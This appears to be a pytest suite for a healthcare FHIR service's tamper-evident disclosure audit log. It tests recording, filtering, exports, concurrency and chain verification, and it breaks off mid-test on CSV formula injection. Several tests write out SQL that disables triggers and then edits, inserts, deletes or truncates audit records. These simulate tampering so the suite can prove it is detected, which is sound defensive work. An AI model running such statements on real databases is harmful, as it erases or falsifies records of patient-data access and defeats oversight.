"""The disclosure audit (issue 27): every response that carries patient data leaves one record,
field by field, through real HTTP on both databases; the chain finds tampering; nothing deletes.

Each FHIR/REST path is driven over HTTP against the test's service; the records are read back with
`svc-auth audit disclosures --json` (a real CLI process) and `audit verify` checks the chain."""
from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
import subprocess
import sys
import threading

import psycopg2
import pytest
from jose import jwt

from audit.chain import link, verify
from audit.disclosures import Disclosure, chain_key, record
from helpers.charts import fetch_zip, wait_until_not_pending
from helpers.environment import ROOT
from helpers.processes import free_port, settings_env, start_process, stop_process
from helpers.r4 import r4_invalid
from helpers.rest import complete_snapshot, partner_headers
from helpers.tokens import mint_platform_token
from connectors.sandbox import patient_panel
from workers.activity import record_activity
from lifecycle.activation import set_activation_status
from lifecycle.verification import record_platform_verification
from models.audit import AuditEvent
from models.disclosures import DisclosureRecord
from ratelimit.concurrency import ConcurrencyCap
from workers.snapshot import build_snapshot, night_window

FIELDS = {"seq", "at", "action", "outcome", "status", "application_id", "client_id", "user_id", "organization_id",
          "patients", "resource_type", "resource_ids", "query", "jti", "scope", "source_address", "request_id"}


def cli(settings, *args, ok=True, **env):
    result = subprocess.run([sys.executable, "-m", "cli.__main__", *args], env=settings_env(settings, **env),
                            cwd=str(ROOT), capture_output=True, text=True, timeout=120)
    if ok:
        assert result.returncode == 0, result.stderr
    return result


def disclosures(settings, org_id, *args) -> list[dict]:
    rows = json.loads(cli(settings, "audit", "disclosures", "--org", org_id, *args, "--json").stdout)
    assert all(set(row) == FIELDS for row in rows)
    return rows


def claims(token: str) -> dict:
    return jwt.get_unverified_claims(token)


async def fhir_get(api, org_id, token, path):
    response = await api.http.fetch(f"{api.base_url}/fhir/r4/{org_id}{path}", raise_error=False,
                                     headers={"Authorization": f"Bearer {token}", "Accept": "application/fhir+json"})
    return response.code, response.headers, json.loads(response.body)


def expected(**fields) -> dict:
    base = {"status": 200, "outcome": "success", "client_id": None, "user_id": None, "application_id": None,
            "jti": None, "scope": None, "query": "", "source_address": "127.0.0.1"}
    return {**base, **fields}


def strip(row: dict) -> dict:
    """A record without the fields set by the moment (seq, at), which are checked separately."""
    return {k: v for k, v in row.items() if k not in ("seq", "at")}


@pytest.mark.gen_test(timeout=120)
async def test_fhir_reads_and_searches_are_recorded_field_by_field(api, world, runtime):
    org, app, doc = world.org, world.app, world.physician
    issuer = runtime.settings.issuer
    panel = patient_panel(org.id)
    mine, other = panel[0].id, panel[1].id
    user_token = mint_platform_token(runtime, issuer, doc, app, org.id, scope="openid user/*.rs")
    patient_token = mint_platform_token(runtime, issuer, doc, app, org.id, scope="openid launch/patient patient/*.rs", patient=mine)
    common = {"organization_id": org.id, "application_id": app.id, "client_id": app.client_id, "user_id": doc.id}
    want = []

    # A user/ scoped Patient search: every returned patient is named.
    status, headers, bundle = await fhir_get(api, org.id, user_token, "/Patient?_count=7")
    assert status == 200
    ids = [e["resource"]["id"] for e in bundle["entry"]]
    assert len(ids) == 7
    want.append(expected(action="search", resource_type="Patient", patients=ids, resource_ids=ids, query="_count=7",
                         jti=claims(user_token)["jti"], scope="openid user/*.rs", request_id=headers["X-Request-Id"],
                         **common))
    # A patient/ scoped search without a patient parameter: the token's patient (their compartment).
    status, headers, bundle = await fhir_get(api, org.id, patient_token, "/Condition")
    assert status == 200 and bundle["entry"]
    pscope = {"jti": claims(patient_token)["jti"], "scope": "openid launch/patient patient/*.rs"}
    want.append(expected(action="search", resource_type="Condition", patients=[mine],
                         resource_ids=[e["resource"]["id"] for e in bundle["entry"]], request_id=headers["X-Request-Id"],
                         **pscope, **common))
    # A read.
    status, headers, _ = await fhir_get(api, org.id, patient_token, f"/Patient/{mine}")
    assert status == 200
    want.append(expected(action="read", resource_type="Patient", patients=[mine], resource_ids=[mine],
                         request_id=headers["X-Request-Id"], **pscope, **common))
    # Failures name what was asked for: another patient's record (404), a bad parameter (400).
    status, headers, _ = await fhir_get(api, org.id, patient_token, f"/Patient/{other}")
    assert status == 404
    want.append(expected(action="read", outcome="failure", status=404, resource_type="Patient", patients=[other, mine],
                         resource_ids=[other], request_id=headers["X-Request-Id"], **pscope, **common))
    status, headers, _ = await fhir_get(api, org.id, user_token, f"/Observation?patient={other}&date=notadate&signature=x")
    assert status == 400
    want.append(expected(action="search", outcome="failure", status=400, resource_type="Observation", patients=[other],
                         resource_ids=[], query=f"patient={other}&date=notadate", jti=claims(user_token)["jti"],
                         scope="openid user/*.rs", request_id=headers["X-Request-Id"], **common))

    rows = disclosures(runtime.settings, org.id)
    assert [strip(r) for r in rows] == want
    assert [r["seq"] for r in rows] == sorted(r["seq"] for r in rows)
    assert all(r["at"].endswith("Z") and len(r["at"]) == len("2026-01-01T00:00:00.000Z") for r in rows)
    # Filters: patient, user, app, time; reading it is audited.
    theirs = disclosures(runtime.settings, org.id, "--patient", other)
    assert theirs == [r for r in rows if other in r["patients"]] and [r["status"] for r in theirs][-2:] == [404, 400]
    assert disclosures(runtime.settings, org.id, "--user", "usr_nobody") == []
    assert len(disclosures(runtime.settings, org.id, "--app", app.id, "--from", rows[2]["at"], "--to", rows[4]["at"])) == 2
    reads = AuditEvent.select().where(AuditEvent.action == "audit.read").order_by(AuditEvent.id)
    assert [e.detail.get("patient") for e in reads][:2] == [None, other] and reads[0].subject == org.id
    # CSV and FHIR (IHE BALP) exports of one patient's accounting.
    csv_text = cli(runtime.settings, "audit", "disclosures", "--org", org.id, "--patient", mine, "--format", "csv").stdout
    assert csv_text.splitlines()[0].startswith("seq,at,action,outcome,status") and len(csv_text.splitlines()) == 5
    bundle = json.loads(cli(runtime.settings, "audit", "disclosures", "--org", org.id, "--patient", mine,
                            "--format", "fhir").stdout)
    events = [e["resource"] for e in bundle["entry"]]
    assert r4_invalid([bundle]) == []                      # valid R4 (bdl-1: no `total` on a collection)
    assert [e["meta"]["profile"][0].rsplit("/", 1)[1] for e in events] == [
        "IHE.BasicAudit.PatientQuery", "IHE.BasicAudit.PatientQuery", "IHE.BasicAudit.PatientRead",
        "IHE.BasicAudit.PatientRead"]
    read_event = events[2]
    assert {"reference": f"Patient/{mine}"} in [e.get("what") for e in read_event["entity"]]
    assert f"urn:ietf:params:oauth:jti:{pscope['jti']}" in [p for a in read_event["agent"] for p in a.get("policy", ())]
    assert read_event["outcome"] == "0" and events[3]["outcome"] == "4"
    assert any(e["type"]["code"] == "24" and e.get("query") for e in events[0]["entity"])
    assert verify(chain_key(runtime))["ok"]


@pytest.mark.gen_test(timeout=120)
async def test_a_real_launch_token_is_linked_by_its_jti(api, flow, world, runtime):
    status, _, tokens = await flow.exchange(await flow.code(scope="openid user/*.rs"))
    assert status == 200, tokens
    status, headers, _ = await fhir_get(api, world.org.id, tokens["access_token"], f"/Practitioner/{world.physician.id}")
    assert status == 200
    row = DisclosureRecord.get()
    assert row.jti == claims(tokens["access_token"])["jti"] and row.request_id == headers["X-Request-Id"]
    assert row.patients == [] and row.user_id == world.physician.id and row.scope == tokens["scope"]


@pytest.mark.gen_test(timeout=120)
async def test_appointment_pages_and_charts_are_recorded(api, world, runtime, clock):
    org, app = world.org, world.app
    headers = await partner_headers(api, app, world.secret)
    jti = claims(headers["Authorization"].split()[1])["jti"]
    installation = record_platform_verification(runtime, app, world.physician)  # the physician authorized the app
    set_activation_status(runtime, installation, "Enabled", "test")  # a Disabled app reads no clinic data
    complete_snapshot(clock, org, [world.physician], per_provider=4)
    status, response_headers, page = await api.call("GET", f"/v1/appointments/{org.id}?limit=3", headers=headers)
    assert status == 200 and len(page["appointments"]) == 3
    common = {"organization_id": org.id, "application_id": app.id, "client_id": app.client_id, "jti": jti,
              "scope": claims(headers["Authorization"].split()[1]).get("scope")}
    want = [expected(action="appointments", resource_type="Appointment",
                     patients=[a["patient"]["id"] for a in page["appointments"]],
                     resource_ids=[a["id"] for a in page["appointments"]], query="limit=3",
                     request_id=response_headers["X-Request-Id"], **common)]

    patient = patient_panel(org.id)[0].id
    status, response_headers, created = await api.call("POST", "/v1/chart-retrieval/requests", {
        "svc_organization_id": org.id, "patient_id": patient}, headers=headers)
    assert status == 202
    request_id = created["request_id"]
    want.append(expected(action="chart.request", status=202, resource_type="ChartRequest", patients=[patient],
                         resource_ids=[request_id], request_id=response_headers["X-Request-Id"], **common))
    await wait_until_not_pending(api, headers, request_id)  # status polls are not disclosures
    # the worker's read from the EHR (the sandbox: one record per connector call)
    want.append(expected(action="ehr.fetch", status=None, resource_type="Patient", patients=[patient],
                         resource_ids=[patient], query="chart", organization_id=org.id, application_id=app.id,
                         client_id=app.client_id, source_address=None, request_id=None))
    status, response_headers, body = await api.call("GET", f"/v1/chart-retrieval/download-url/{request_id}",
                                                    headers=headers)
    assert status == 200
    want.append(expected(action="chart.url", resource_type="ChartRequest", patients=[patient], resource_ids=[request_id],
                         request_id=response_headers["X-Request-Id"], **common))
    response = await fetch_zip(api, body["download_url"], runtime)
    assert response.code == 200
    want.append(expected(action="chart.download", resource_type="ChartRequest", patients=[patient],
                         resource_ids=[request_id], query=body["download_url"].split("?")[1].split("&signature=")[0],
                         request_id=response.headers["X-Request-Id"], organization_id=org.id, application_id=app.id,
                         client_id=app.client_id))
    assert "signature" not in want[-1]["query"] and want[-1]["query"].startswith("expires=")
    # The chart's build starts as the request is queued, so its `ehr.fetch` may be committed before
    # or after the request's own record: the same records, in either order there.
    rows = [strip(r) for r in disclosures(runtime.settings, org.id)]
    if [r["action"] for r in rows[1:3]] == ["ehr.fetch", "chart.request"]:
        rows[1:3] = [rows[2], rows[1]]
    assert rows == want
    assert verify(chain_key(runtime))["ok"]


def test_snapshot_fetches_are_recorded_and_pruning_snapshots_keeps_records(runtime, world):
    night = dt.date(2030, 3, 4)
    start = night_window(runtime.settings, night)[0]
    runtime.clock.advance((start - dt.timedelta(hours=6) - runtime.clock.now()).total_seconds())
    record_platform_verification(runtime, world.app, world.physician)
    record_activity(runtime, world.physician)
    old = complete_snapshot(runtime.clock, world.org, [world.physician], day=night)
    build_snapshot(runtime, world.org.id, night)  # publishing prunes the night's earlier snapshot
    from models.appointments import Snapshot
    assert Snapshot.get_or_none(Snapshot.id == old.id) is None
    [fetch] = list(DisclosureRecord.select())
    assert fetch.action == "ehr.fetch" and fetch.organization_id == world.org.id and fetch.outcome == "success"
    assert fetch.resource_type == "Appointment" and fetch.patients and fetch.user_id is None and fetch.status is None
    assert fetch.query.startswith(f"practitioner={world.physician.npi}&start=")
    assert verify(chain_key(runtime)) == {"ok": True, "records": 1, "head": fetch.mac}


def _fill(runtime, count=5) -> list[DisclosureRecord]:
    for n in range(count):
        record(runtime, Disclosure(action="read", organization_id="org_x", resource_type="Patient",
                                   request_id=f"r{n}"), "success", 200, [f"pat_{n}"], [f"pat_{n}"])
    return list(DisclosureRecord.select().order_by(DisclosureRecord.seq))


def _tamper(runtime, sql: str, *params) -> None:
    """What someone with the database owner's rights can do: turn the guard off, edit, turn it on."""
    postgres = runtime.settings.database_url.startswith("postgres")
    with runtime.db.atomic():
        if postgres:
            runtime.db.execute_sql('ALTER TABLE "disclosure_record" DISABLE TRIGGER USER')
        runtime.db.execute_sql(sql, params)
        if postgres:
            runtime.db.execute_sql('ALTER TABLE "disclosure_record" ENABLE TRIGGER USER')


def _verify_cli(settings, *args) -> tuple[int, dict]:
    result = cli(settings, "audit", "verify", *args, "--json", ok=False)
    return result.returncode, json.loads(result.stdout)


def test_verify_names_the_first_bad_record_of_each_tampering(runtime):
    rows = _fill(runtime)
    code, intact = _verify_cli(runtime.settings)
    assert code == 0 and intact == {"ok": True, "records": 5, "head": rows[-1].mac}
    p = "%s" if runtime.settings.database_url.startswith("postgres") else "?"
    # 1. an edited field (another patient)
    _tamper(runtime, f'UPDATE "disclosure_record" SET "patients" = {p} WHERE "seq" = 3', '["pat_other"]')
    code, result = _verify_cli(runtime.settings)
    assert code == 1 and result["ok"] is False and result["first_bad"] == 3 and "edited" in result["reason"]
    _tamper(runtime, f'UPDATE "disclosure_record" SET "patients" = {p} WHERE "seq" = 3', '["pat_2"]')
    assert verify(chain_key(runtime))["ok"]
    # 2. an inserted row (a copy of a real one at the tail: its link cannot be recomputed)
    _tamper(runtime, 'INSERT INTO "disclosure_record" (seq, at, action, outcome, status, organization_id, patients, '
                     'resource_type, resource_ids, query, detail, mac) SELECT 6, at, action, outcome, status, '
                     'organization_id, patients, resource_type, resource_ids, query, detail, mac '
                     'FROM "disclosure_record" WHERE seq = 5')
    code, result = _verify_cli(runtime.settings)
    assert code == 1 and result["first_bad"] == 6
    # 3. a deleted row
    _tamper(runtime, 'DELETE FROM "disclosure_record" WHERE "seq" IN (6, 2)')
    code, result = _verify_cli(runtime.settings)
    assert code == 1 and result["first_bad"] == 3 and "deleted" in result["reason"]
    # 4. a truncated tail, given the head verify printed before
    _tamper(runtime, 'DELETE FROM "disclosure_record" WHERE "seq" >= 2')
    assert _verify_cli(runtime.settings)[0] == 0  # the rest still links up: only the earlier head shows it
    code, result = _verify_cli(runtime.settings, "--head", intact["head"])
    assert code == 1 and result["first_bad"] is None and "truncated" in result["reason"]


def test_appends_stay_linear_under_concurrent_writers_and_verify_sees_no_false_break(runtime):
    errors, results = [], []

    def writer(n):
        try:
            for i in range(15):
                runtime.unit_of_work(record, runtime, Disclosure(action="read", organization_id="org_c",
                                                                 request_id=f"w{n}-{i}"), "success", 200, [f"p{n}"], [])
        except Exception as exc:  # noqa: BLE001
            errors.append(exc)

    def verifier(stop):
        while not stop.is_set():
            results.append(runtime.unit_of_work(verify, chain_key(runtime)))

    stop = threading.Event()
    threads = [threading.Thread(target=writer, args=(n,)) for n in range(4)]
    checker = threading.Thread(target=verifier, args=(stop,))
    checker.start()
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    stop.set()
    checker.join()
    assert errors == []
    assert results and all(r["ok"] for r in results), [r for r in results if not r["ok"]]
    assert [r.seq for r in DisclosureRecord.select().order_by(DisclosureRecord.seq)] == list(range(1, 61))
    assert verify(chain_key(runtime))["records"] == 60


def test_prune_keeps_the_chain_verifiable_and_is_recorded(runtime):
    _fill(runtime, 3)
    runtime.clock.advance(10)
    _fill(runtime, 2)
    cutoff = DisclosureRecord.get(DisclosureRecord.seq == 4).at
    days = runtime.settings.disclosure_retention_days
    # within the retention: refused
    assert cli(runtime.settings, "audit", "prune", "--before", cutoff.isoformat() + "Z", ok=False).returncode == 2
    future = dt.timedelta(days=days) + dt.timedelta(seconds=30)
    result = cli(runtime.settings, "audit", "prune", "--before", cutoff.isoformat() + "Z", "--json",
                 SVC_CLOCK_OFFSET=str(future.total_seconds()))
    assert json.loads(result.stdout)["removed"] == 3
    assert [r.seq for r in DisclosureRecord.select().order_by(DisclosureRecord.seq)] == [4, 5, 6]
    assert DisclosureRecord.get(DisclosureRecord.seq == 6).action == "audit.prune"
    assert verify(chain_key(runtime))["ok"] and AuditEvent.get(AuditEvent.action == "audit.prune")
    assert disclosures(runtime.settings, "org_x")[0]["seq"] == 4  # the checkpoint is no disclosure
    # deleting the oldest remaining record is still found
    _tamper(runtime, 'DELETE FROM "disclosure_record" WHERE "seq" = 4')
    assert verify(chain_key(runtime))["first_bad"] == 5


def test_postgresql_refuses_update_delete_and_truncate(runtime, backend):
    if backend != "postgresql":
        pytest.skip("the trigger is PostgreSQL's")
    _fill(runtime, 2)
    for sql in ('UPDATE "disclosure_record" SET "query" = \'x\'', 'DELETE FROM "disclosure_record"',
                'TRUNCATE "disclosure_record"'):
        with pytest.raises(Exception) as refused:
            with runtime.db.atomic():
                runtime.db.execute_sql(sql)
        assert "append-only" in str(refused.value)
    assert DisclosureRecord.select().count() == 2 and verify(chain_key(runtime))["ok"]


def test_deletions_and_log_levels_leave_the_records(runtime, world, settings, tmp_path):
    # SVC_LOG_LEVEL=WARNING: a read still leaves its record.
    port = free_port()
    issuer = f"http://127.0.0.1:{port}"
    proc = start_process(["serve", "--port", str(port)], settings_env(settings, SVC_ISSUER=issuer,
                         SVC_PUBLIC_URL=issuer, SVC_LOG_LEVEL="WARNING"), port, log_path=tmp_path / "serve.log")
    try:
        import urllib.request
        mine = patient_panel(world.org.id)[0].id
        token = mint_platform_token(runtime, issuer, world.physician, world.app, world.org.id)
        request = urllib.request.Request(f"{issuer}/fhir/r4/{world.org.id}/Patient/{mine}",
                                         headers={"Authorization": f"Bearer {token}"})
        with urllib.request.urlopen(request, timeout=30) as response:
            assert response.status == 200
    finally:
        stop_process(proc)
    assert [(r.action, r.patients) for r in DisclosureRecord.select()] == [("read", [mine])]
    _fill(runtime, 2)
    head = verify(chain_key(runtime))
    cli(settings, "apps", "delete", "--app", world.app.id, "--yes")
    cli(settings, "demo", "seed", "--reset")
    assert verify(chain_key(runtime)) == head and DisclosureRecord.select().count() == 3


@pytest.mark.gen_test(timeout=60)
async def test_a_record_that_cannot_be_written_is_a_503_with_retry_after(api, world, runtime):
    token = mint_platform_token(runtime, runtime.settings.issuer, world.physician, world.app, world.org.id)
    runtime.db.execute_sql('ALTER TABLE "disclosure_record" RENAME TO "disclosure_record_away"')
    try:
        status, headers, body = await fhir_get(api, world.org.id, token, "/Patient?_count=2")
    finally:
        runtime.db.execute_sql('ALTER TABLE "disclosure_record_away" RENAME TO "disclosure_record"')
    assert status == 503 and headers["Retry-After"] and body["resourceType"] == "OperationOutcome"
    assert "entry" not in body


def test_turning_the_audit_off_is_itself_audited(settings):
    cli(settings, "audit", "list", "--json", SVC_DISCLOSURE_AUDIT="off")
    events = json.loads(cli(settings, "audit", "list", "--json").stdout)["events"]
    assert [e["action"] for e in events if e["action"].startswith("audit.")] == ["audit.disclosures_off"]
    # `audit list` filters by subject and time
    by_subject = json.loads(cli(settings, "audit", "list", "--subject", "SVC_DISCLOSURE_AUDIT", "--json").stdout)["events"]
    assert [e["action"] for e in by_subject] == ["audit.disclosures_off"]
    assert json.loads(cli(settings, "audit", "list", "--from", "2999-01-01", "--json").stdout)["events"] == []


def test_turning_the_audit_off_is_in_the_disclosure_chain_too(runtime):
    """The `audit_event` row may be deleted by the service role; the chain's own record may not."""
    cli(runtime.settings, "audit", "list", "--json", SVC_DISCLOSURE_AUDIT="off")
    code, result = _verify_cli(runtime.settings)
    assert code == 0 and result["ok"] and result["records"] == 1
    (marker,) = DisclosureRecord.select()
    assert marker.action == "audit.disclosures_off" and marker.detail["setting"] == "SVC_DISCLOSURE_AUDIT"


def test_a_service_role_with_select_and_insert_only_records_and_cannot_erase(runtime, backend, world):
    """docs/operations.md: the services under a role that may only SELECT and INSERT the table."""
    if backend != "postgresql":
        pytest.skip("roles are PostgreSQL's")
    import uuid
    from helpers.environment import PG_DSN
    role, database = f"svc_audit_{uuid.uuid4().hex[:8]}", runtime.settings.database_url.rsplit("/", 1)[1]
    admin = psycopg2.connect(f"{PG_DSN}/{database}")
    admin.autocommit = True
    cursor = admin.cursor()
    cursor.execute(f"CREATE ROLE {role} LOGIN PASSWORD 'pw'")
    try:
        for grant in ("GRANT USAGE ON SCHEMA public TO {r}", "GRANT SELECT, INSERT, UPDATE, DELETE ON ALL TABLES IN SCHEMA public TO {r}",
                      "GRANT USAGE, SELECT ON ALL SEQUENCES IN SCHEMA public TO {r}",
                      "REVOKE UPDATE, DELETE, TRUNCATE ON disclosure_record FROM {r}"):
            cursor.execute(grant.format(r=role))
        host = PG_DSN.split("@", 1)[1]
        url = f"postgresql://{role}:pw@{host}/{database}"
        from runtime.startup import open_runtime
        service = open_runtime(runtime.settings.replace(database_url=url))
        try:
            service.unit_of_work(record, service, Disclosure(action="read", organization_id=world.org.id),
                                 "success", 200, ["pat_1"], ["pat_1"])
            for sql in ('DELETE FROM "disclosure_record"', 'UPDATE "disclosure_record" SET "query" = \'x\'',
                        'TRUNCATE "disclosure_record"', 'ALTER TABLE "disclosure_record" DISABLE TRIGGER USER'):
                with pytest.raises(Exception) as refused:
                    with service.db.atomic():
                        service.db.execute_sql("SET LOCAL svc_auth.disclosure_maintenance = 'on'")
                        service.db.execute_sql(sql)
                assert "permission denied" in str(refused.value) or "must be owner" in str(refused.value)
        finally:
            service.close()
        code, result = _verify_cli(runtime.settings.replace(database_url=url))
        assert code == 0 and result["records"] == 1
    finally:
        cursor.execute(f"DROP OWNED BY {role}")
        cursor.execute(f"DROP ROLE {role}")
        admin.close()


WRITER = """
import sys
from conf import Settings
from runtime.startup import open_runtime
from audit.disclosures import Disclosure, record
runtime = open_runtime(Settings.from_env(dotenv=None))
print("ready", flush=True)
sys.stdin.readline()
for i in range(25):
    runtime.unit_of_work(record, runtime, Disclosure(action="read", organization_id="org_p", request_id=f"{sys.argv[1]}-{i}"),
                         "success", 200, ["p"], [])
runtime.close()
"""


def test_processes_appending_at_once_keep_one_chain(runtime, settings):
    """Several serve processes and workers: one linear chain, and a reader never sees a false break."""
    procs = [subprocess.Popen([sys.executable, "-c", WRITER, str(n)], env=settings_env(settings), cwd=str(ROOT),
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) for n in range(3)]
    try:
        for proc in procs:
            assert proc.stdout.readline().strip() == "ready"
        for proc in procs:  # released together
            proc.stdin.write("go\n")
            proc.stdin.flush()
        checks = []
        while any(proc.poll() is None for proc in procs):
            checks.append(verify(chain_key(runtime)))
        assert [proc.wait() for proc in procs] == [0, 0, 0]
    finally:
        for proc in procs:
            stop_process(proc)
    assert checks and all(check["ok"] for check in checks), [c for c in checks if not c["ok"]]
    assert verify(chain_key(runtime))["records"] == 75
    assert [r.seq for r in DisclosureRecord.select().order_by(DisclosureRecord.seq)] == list(range(1, 76))


@pytest.mark.gen_test(timeout=120)
async def test_concurrent_reads_share_commits_and_each_is_recorded_once(api, world, runtime):
    """The group commit: reads in flight together are committed together, each record once, in one chain."""
    runtime.ehr_concurrency = ConcurrencyCap(64)  # the clinic's 4 EHR slots per process are another test's
    token = mint_platform_token(runtime, runtime.settings.issuer, world.physician, world.app, world.org.id)
    patients = [p.id for p in patient_panel(world.org.id)[:8]]
    writer = runtime.disclosure_writer
    commits_before, records_before = writer.commits, writer.committed
    answers = await asyncio.gather(*(fhir_get(api, world.org.id, token, f"/Patient/{patients[n % 8]}")
                                     for n in range(40)))
    assert [status for status, _, _ in answers] == [200] * 40
    request_ids = sorted(headers["X-Request-Id"] for _, headers, _ in answers)
    rows = list(DisclosureRecord.select().where(DisclosureRecord.action == "read").order_by(DisclosureRecord.seq))
    assert sorted(r.request_id for r in rows) == request_ids
    assert all(r.patients == [r.resource_ids[0]] and r.resource_ids[0] in patients for r in rows)
    assert writer.committed - records_before == 40
    assert writer.commits - commits_before < 40  # at least one commit held several requests' records
    assert verify(chain_key(runtime))["records"] == DisclosureRecord.select().count()


@pytest.mark.gen_test(timeout=120)
async def test_a_failed_group_commit_fails_every_waiting_read_and_strands_none(api, world, runtime):
    """When the commit fails, every read that was waiting on it answers 503 (none hangs, none is
    answered unrecorded), and the next reads are recorded again."""
    runtime.ehr_concurrency = ConcurrencyCap(64)  # the clinic's 4 EHR slots per process are another test's
    token = mint_platform_token(runtime, runtime.settings.issuer, world.physician, world.app, world.org.id)
    patient = patient_panel(world.org.id)[0].id
    runtime.db.execute_sql('ALTER TABLE "disclosure_record" RENAME TO "disclosure_record_away"')
    try:
        failed = await asyncio.gather(*(fhir_get(api, world.org.id, token, f"/Patient/{patient}") for _ in range(12)))
    finally:
        runtime.db.execute_sql('ALTER TABLE "disclosure_record_away" RENAME TO "disclosure_record"')
    assert [status for status, _, _ in failed] == [503] * 12
    assert all(headers["Retry-After"] and "name" not in body for _, headers, body in failed)
    assert DisclosureRecord.select().count() == 0
    again = await asyncio.gather(*(fhir_get(api, world.org.id, token, f"/Patient/{patient}") for _ in range(6)))
    assert [status for status, _, _ in again] == [200] * 6
    assert sorted(r.request_id for r in DisclosureRecord.select()) == sorted(h["X-Request-Id"] for _, h, _ in again)


def test_a_link_is_the_same_bytes_as_every_chain_written_before():
    """The link's canonical form never changes: a chain written by any earlier release still verifies.
    The expected value was computed with the first release's formula (json.dumps with sort_keys,
    strftime, hmac.new)."""
    fields = {"seq": 7, "at": dt.datetime(2026, 11, 25, 14, 5, 57, 123456), "action": "read", "outcome": "success",
              "status": 200, "organization_id": "org_1", "patients": ["pat_é", "pat_a"], "resource_type": "Patient",
              "resource_ids": ["pat_é"], "query": "name=Zoë&_count=2", "detail": {"b": 1, "a": [1, {"z": 1, "y": 2}]}}
    assert link(b"\x01" * 32, "ab" * 32, fields) == "a8cd5751c668a9134b2cf4f728c429619595dbe79f89b7a273a69cdd5c9211cc"


def test_a_records_canonical_bytes_are_the_encoders_for_every_code_point_and_value():
    """A record without `detail` is made canonical by orjson (`audit.chain._canonical`): its bytes
    are the JSON encoder's (the first release's formula) for every code point in every string
    field and list, for integers at and past 64 bits, None, booleans; and its link is the one
    that formula gives."""
    import hashlib
    import hmac as hmac_module
    from audit.chain import CHAINED, _canonical

    def first(values):  # the first release's canonical form
        return json.dumps(values, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode("utf-8")

    base = {name: None for name in CHAINED} | {"seq": 1, "at": dt.datetime(2026, 11, 27, 5, 0, 0, 1000),
                                               "patients": [], "resource_ids": [], "detail": {}}
    expected_at = "2026-11-27T05:00:00.001Z"
    points = [c for c in range(0x110000) if not 0xD800 <= c <= 0xDFFF]
    for start in range(0, len(points), 4096):
        text = "".join(map(chr, points[start:start + 4096]))
        fields = base | {"query": text, "patients": [text, "pat-1"], "scope": text[::-1]}
        assert _canonical(fields) == first(fields | {"at": expected_at}), hex(points[start])
    for seq in (0, 1, 2 ** 63 - 1, 2 ** 64 - 1, 2 ** 64, -(2 ** 63), 10 ** 30):
        for status in (None, 200, True):
            fields = base | {"seq": seq, "status": status, "detail": None}
            assert _canonical(fields) == first(fields | {"at": expected_at})
    fields = base | {"action": "read", "patients": ["pat_é", "pat_a"], "query": "name=Zoë&_count=2"}
    message = ("ab" * 32).encode() + b"\n" + first(fields | {"at": expected_at})
    assert link(b"\x01" * 32, "ab" * 32, fields) == hmac_module.new(b"\x01" * 32, message, hashlib.sha256).hexdigest()


def test_the_time_and_json_texts_of_a_record_are_the_first_releases():
    """`iso_ms` and the JSON columns' text (`models.db.JSONText`) give what the first release's
    formulas gave (strftime-style fields; the JSON encoder on the whole value), quicker ways included."""
    import random
    from audit.chain import iso_ms
    from models.db import JSONText

    def first_iso(value):
        return (f"{value.year:04d}-{value.month:02d}-{value.day:02d}T{value.hour:02d}:{value.minute:02d}:"
                f"{value.second:02d}.{value.microsecond // 1000:03d}Z")

    rng = random.Random(35)
    for _ in range(20_000):
        value = dt.datetime(rng.randint(1, 9999), rng.randint(1, 12), rng.randint(1, 28), rng.randint(0, 23),
                            rng.randint(0, 59), rng.randint(0, 59), rng.choice([0, 999, 1000, rng.randint(0, 999_999)]))
        assert iso_ms(value) == first_iso(value)
        aware = value.replace(tzinfo=dt.timezone(dt.timedelta(hours=rng.randint(-12, 12))))
        assert iso_ms(aware) == first_iso(aware)
    encode = json.JSONEncoder(separators=(",", ":"), sort_keys=True).encode
    field = JSONText()
    strings = ["", "pat-1", "é", "\x00\x1f\x7f", '"\\', "\u2028", "\U0001f600", "a,b"]
    for value in ([], {}, None, strings, [["x"]], [1, "x"], {"b": 1, "a": ["é"]}, ["x", None], {"": {}}):
        assert field.db_value(value) == (None if value is None else encode(value)), value
    for _ in range(2_000):
        value = ["".join(chr(rng.randint(0, 0x2FFFF)) for _ in range(rng.randint(0, 6))) for _ in range(rng.randint(0, 4))]
        value = [text for text in value if not any(0xD800 <= ord(c) <= 0xDFFF for c in text)]
        assert field.db_value(value) == encode(value)


def test_a_group_commit_leader_hands_leadership_on_after_max_rounds(runtime):
    """Issue 36: a leader kept committing while records arrived, its own request held for as long
    as others kept coming. Here one more record arrives during every commit (the writer's clock is
    read inside each append): the leader's call ends after MAX_ROUNDS commits, a pool job leads on,
    and all 40 records are committed once, in one chain."""
    from audit.disclosures import _fields
    from audit.writer import MAX_ROUNDS, ChainWriter
    from audit.chain import KEY_LABEL

    async def run():
        loop = asyncio.get_running_loop()
        records = [(_fields(Disclosure(action="read", request_id=f"feed-{i}"), "success", 200, ["p1"], ["p1"]),
                    loop.create_future()) for i in range(40)]
        arriving = iter(records[1:])

        def now():  # inside the leader's append: the next request's record arrives meanwhile
            arrived = next(arriving, None)
            if arrived is not None:
                writer.enqueue(*arrived)  # a follower: returns at once
            return runtime.clock.now()

        handoffs = []  # the commits made when each leader handed on

        def handoff(job):
            handoffs.append(writer.commits)
            return runtime.executor.submit(runtime.unit_of_work, job)

        def first_request():  # the first record's pool job: it leads
            writer.enqueue(*records[0])
            return list(handoffs)

        writer = ChainWriter(runtime.db, runtime.hasher.derive(KEY_LABEL), now, handoff=handoff)
        at_return = await runtime.run(first_request)
        await asyncio.wait_for(asyncio.gather(*(future for _, future in records)), 60)
        return writer, at_return, handoffs

    writer, at_return, handoffs = asyncio.run(run())
    assert at_return[:1] == [MAX_ROUNDS], "the first request's call handed on after MAX_ROUNDS commits, then returned"
    assert handoffs == [MAX_ROUNDS, 2 * MAX_ROUNDS, 3 * MAX_ROUNDS, 4 * MAX_ROUNDS]  # each leader: MAX_ROUNDS
    assert writer.handoffs == 4 and writer.commits == writer.committed == 40
    assert [r.request_id for r in DisclosureRecord.select().order_by(DisclosureRecord.seq)
            if r.request_id.startswith("feed-")] == [f"feed-{i}" for i in range(40)]
    assert verify(chain_key(runtime))["ok"]


def test_the_accounting_csv_writes_no_cell_a_spreadsheet_runs():
    """A record's query, ids and scope are what an app sent or an EHR answered: a cell beginning with
    `=`, `+`, `-`, `@` was a formula to the spreadsheet an auditor opens the CSV in."""
    from audit.accounting import FIELDS, as_csv
    record = {name: None for name in FIELDS} | {
